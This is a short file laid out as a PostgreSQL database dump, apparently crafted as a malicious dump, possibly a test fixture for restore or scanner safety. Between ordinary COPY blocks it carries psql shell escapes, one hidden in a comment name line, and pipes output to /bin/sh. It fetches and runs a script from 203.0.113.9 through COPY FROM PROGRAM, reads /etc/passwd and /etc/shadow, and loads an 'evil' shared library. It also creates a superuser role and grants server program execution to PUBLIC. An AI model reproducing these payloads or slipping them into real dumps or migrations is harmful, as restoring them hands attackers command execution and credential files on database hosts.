--
-- PostgreSQL database dump
--

-- Dumped from database version 15.20
-- Dumped by pg_dump version 15.20

SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;

CREATE TABLE public.t (a integer, b text);

CREATE TRIGGER t_audit BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION public.audit();

COPY public.t (a, b) FROM stdin;
1	one
\.
\! id > /tmp/owned
COPY public.t (a, b) FROM stdin;
2	two
\.

--
-- Name: x
\! touch /tmp/pwned-by-name; Type: TABLE; Schema: public; Owner: postgres
--

\o | /bin/sh
\copy public.t from program 'curl -s http://203.0.113.9/p'
\setenv PAGER 'sh -c id'
\set payload `id`
SELECT 'SELECT 1' \gexec
\i /etc/passwd
\lo_import /etc/shadow
\cd /tmp
COPY public.t FROM PROGRAM 'curl -s http://203.0.113.9/p | sh';
COPY public.t TO '/tmp/exfil.csv';
SELECT pg_catalog.lo_import('/etc/passwd');
SELECT pg_read_file('/etc/passwd');
LOAD '/tmp/evil.so';
CREATE FUNCTION public.ops() RETURNS void LANGUAGE plpython3u AS $$ import os; os.system('id') $$;
CREATE FUNCTION public.native() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f';
CREATE EXTENSION adminpack;
CREATE EXTENSION pg_net;
ALTER SYSTEM SET shared_preload_libraries = 'evil';
ALTER ROLE app SET session_preload_libraries = 'evil';
ALTER DATABASE app SET local_preload_libraries = 'evil';
CREATE ROLE maint WITH SUPERUSER LOGIN;
GRANT pg_execute_server_program TO PUBLIC;
CREATE FUNCTION public.definer() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$;
CREATE EVENT TRIGGER ddl_watch ON ddl_command_start EXECUTE FUNCTION public.audit();
DO $$ BEGIN PERFORM pg_sleep(0); END $$;
UPDATE public.t SET b = 'x';
SELECT public.ops();
\unrestrict somethingelse
